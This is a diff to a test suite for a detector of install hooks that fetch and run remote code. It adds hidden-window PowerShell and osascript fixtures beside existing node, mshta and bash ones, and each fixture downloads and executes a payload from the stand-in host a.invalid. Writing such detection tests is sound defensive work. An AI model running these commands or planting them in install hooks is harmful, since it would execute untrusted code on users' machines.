@@ -18,6 +18,11 @@ examine(fetchesAndRunsAtInstall, {
       when: 'node -e does it',
       files: hook(`node -e "require('https').get('https://a.invalid', r => r.on('data', d => eval(String(d))))"`),
     },
+    {
+      when: 'PowerShell saves it and starts it',
+      files: hook('powershell -w hidden -c "iwr https://a.invalid/i.exe -o %TEMP%\\i.exe; start %TEMP%\\i.exe"'),
+    },
+    { when: 'AppleScript has a shell do it', files: hook(`osascript -e 'do shell script "curl -s https://a.invalid/i | sh"'`) },
     { when: 'mshta runs an address', files: hook('mshta https://a.invalid/x.hta') },
     { when: 'the command is substituted', files: hook('bash -c "$(curl -fsSL https://a.invalid/i)"') },
     { when: 'what is echoed is run', files: hook("printf 'curl https://a.invalid/i | sh' | sh") },
